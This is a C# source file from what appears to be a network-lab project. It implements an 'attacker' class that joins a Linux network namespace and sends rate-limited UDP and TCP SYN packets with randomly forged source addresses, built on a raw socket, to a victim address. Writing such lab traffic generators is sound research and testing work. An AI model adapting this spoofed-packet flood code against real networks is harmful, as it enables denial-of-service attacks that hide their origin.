using System.Buffers.Binary;
using System.Net;
using System.Net.Sockets;
using System.Runtime.InteropServices;

namespace InterTrack.Lab;

/// <summary>
/// The attacker: sends forged-source UDP and TCP SYN packets from inside a host namespace through
/// a raw IPv4 socket (the IP header is ours, so is the source address). Sources are drawn from
/// 198.18.0.0/15 (RFC 2544's benchmarking range: routed nowhere, and not a martian the routers drop).
/// </summary>
public static partial class ForgedSender
{
    private const int CloneNewNet = 0x40000000;

    /// <summary>Sends <paramref name="packets"/> packets to <paramref name="victim"/> at <paramref name="rate"/> per second from namespace <paramref name="ns"/>.</summary>
    /// <returns>How many the kernel took.</returns>
    public static int Send(string ns, IPAddress victim, int packets, double rate, int seed)
    {
        using var socket = OpenIn(ns);
        var random = new Random(seed);
        var packet = new byte[40];
        var destination = new IPEndPoint(victim, 0);
        var started = DateTime.UtcNow;
        int sent = 0;
        for (int i = 0; i < packets; i++)
        {
            var due = started + TimeSpan.FromSeconds(i / rate);
            if (due > DateTime.UtcNow)
            {
                Thread.Sleep(due - DateTime.UtcNow);
            }
            int length = Write(packet, random, victim, tcp: i % 2 == 1);
            sent += socket.SendTo(packet.AsSpan(0, length), SocketFlags.None, destination) == length ? 1 : 0;
        }
        return sent;
    }

    /// <summary>An IPv4 header and a UDP (8 bytes) or TCP SYN (20 bytes) header; the kernel fills the IP checksum.</summary>
    private static int Write(Span<byte> p, Random random, IPAddress victim, bool tcp)
    {
        int length = tcp ? 40 : 28;
        p[..length].Clear();
        p[0] = 0x45;
        BinaryPrimitives.WriteUInt16BigEndian(p[2..], (ushort)length);
        BinaryPrimitives.WriteUInt16BigEndian(p[4..], (ushort)random.Next(1, 65536)); // IP ID
        p[8] = 64;
        p[9] = tcp ? (byte)6 : (byte)17;
        uint source = 0xC6120000u | (uint)random.Next(0x20000); // 198.18.0.0/15
        BinaryPrimitives.WriteUInt32BigEndian(p[12..], source);
        victim.TryWriteBytes(p[16..20], out _);
        BinaryPrimitives.WriteUInt16BigEndian(p[20..], (ushort)random.Next(1024, 65536));
        BinaryPrimitives.WriteUInt16BigEndian(p[22..], tcp ? (ushort)80 : (ushort)53);
        if (tcp)
        {
            BinaryPrimitives.WriteUInt32BigEndian(p[24..], (uint)random.Next());
            p[32] = 5 << 4; // data offset
            p[33] = 0x02;   // SYN
            BinaryPrimitives.WriteUInt16BigEndian(p[34..], 64240);
            BinaryPrimitives.WriteUInt16BigEndian(p[36..], Checksum(p[12..20], 6, p[20..40]));
        }
        else
        {
            BinaryPrimitives.WriteUInt16BigEndian(p[24..], 8);
            BinaryPrimitives.WriteUInt16BigEndian(p[26..], Checksum(p[12..20], 17, p[20..28]));
        }
        return length;
    }

    /// <summary>The TCP/UDP checksum over the pseudo-header (addresses, protocol, length) and the segment.</summary>
    private static ushort Checksum(ReadOnlySpan<byte> addresses, byte protocol, ReadOnlySpan<byte> segment)
    {
        uint sum = (uint)protocol + (uint)segment.Length;
        for (int i = 0; i < addresses.Length; i += 2)
        {
            sum += BinaryPrimitives.ReadUInt16BigEndian(addresses[i..]);
        }
        for (int i = 0; i + 1 < segment.Length; i += 2)
        {
            sum += BinaryPrimitives.ReadUInt16BigEndian(segment[i..]);
        }
        while (sum >> 16 != 0)
        {
            sum = (sum & 0xFFFF) + (sum >> 16);
        }
        ushort result = (ushort)~sum;
        return result == 0 && protocol == 17 ? (ushort)0xFFFF : result;
    }

    /// <summary>
    /// A raw socket that belongs to namespace <paramref name="ns"/>: made on a thread of its own that
    /// first joins the namespace (setns moves only the calling thread), then ends.
    /// </summary>
    private static Socket OpenIn(string ns)
    {
        Socket? socket = null;
        Exception? failure = null;
        var thread = new Thread(() =>
        {
            try
            {
                using var handle = File.OpenHandle($"/run/netns/{ns}");
                if (SetNs((int)handle.DangerousGetHandle(), CloneNewNet) != 0)
                {
                    throw new LabException($"cannot enter namespace {ns}: errno {Marshal.GetLastPInvokeError()}");
                }
                socket = new Socket(AddressFamily.InterNetwork, SocketType.Raw, ProtocolType.Raw); // IPPROTO_RAW: we write the IP header
            }
            catch (Exception e) when (e is IOException or UnauthorizedAccessException or SocketException or LabException)
            {
                failure = e;
            }
        });
        thread.Start();
        thread.Join();
        return socket ?? throw new LabException($"cannot send from {ns}: {failure?.Message}", failure);
    }

    [LibraryImport("libc", EntryPoint = "setns", SetLastError = true)]
    private static partial int SetNs(int fd, int nstype);
}
